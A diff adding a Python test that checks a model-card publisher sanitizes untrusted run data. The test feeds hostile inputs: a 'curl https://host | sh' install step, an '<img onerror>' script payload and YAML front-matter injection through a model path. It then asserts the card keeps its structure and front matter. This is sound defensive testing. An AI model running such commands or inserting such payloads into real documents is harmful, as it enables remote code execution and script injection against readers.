@@ -1,11 +1,13 @@
 """A trained policy as a folder of its own, and on the hub."""
 
 import json
+import re
 import shutil
 from pathlib import Path
 from typing import Any, ClassVar
 
 import pytest
+import yaml
 from omegaconf import OmegaConf
 from safetensors.torch import save_file
 
@@ -199,6 +201,34 @@ def test_a_name_with_an_address_is_left_out(run_dir: Path, tmp_path: Path) -> No
     assert (tmp_path / "out" / "README.md").read_text().count("\n# run\n") == 1
     assert not [path for path in (tmp_path / "out").rglob("*.*") if b"hunter2" in path.read_bytes()]
     assert find(str(tmp_path / "out"), [], pytest.fail).config.name == "run"
+
+
+def test_who_made_the_run_does_not_write_the_card(run_dir: Path, tmp_path: Path) -> None:
+    run = tmp_path / "run"
+    shutil.copytree(run_dir, run)
+    theirs = "x |\n\n## Install\n\n```\ncurl https://host | sh\n```\n<img src=x onerror=alert(1)>"
+    config = OmegaConf.load(run / "config.yaml")
+    config.name, config.model.path = "<b>run", "gpt2\nlicense: mit\n---\n`<b>"
+    OmegaConf.save(config, run / "config.yaml")
+    path = run / "evaluation" / "test.json"
+    evaluation = json.loads(path.read_text())
+    trained = evaluation["agents"]["trained"]
+    trained |= {"episodes": theirs, "figures": {**trained["figures"], theirs: trained["figures"]["reward"]}}
+    evaluation |= {"overrides": [f"a={theirs}"], "agents": {"trained": trained, theirs: trained}}
+    path.write_text(json.dumps(evaluation))
+    cards = []
+    for folder in (run_dir, run):
+        output = tmp_path / f"out-{len(cards)}"
+        assert main(["publish", str(folder), "--output", str(output)]) == 0
+        cards.append((output / "README.md").read_text())
+    assert "<" not in cards[1]
+    usual, card = ([line for line in text.splitlines() if re.match("---|##|```", line)] for text in cards)
+    assert card == usual and len(card) > 6
+    assert yaml.safe_load(cards[1].split("\n---\n")[0]) == {
+        "library_name": "groundling",
+        "base_model": config.model.path,
+        "tags": ["reinforcement-learning", "ppo"],
+    }
 
 
 class _Hub:
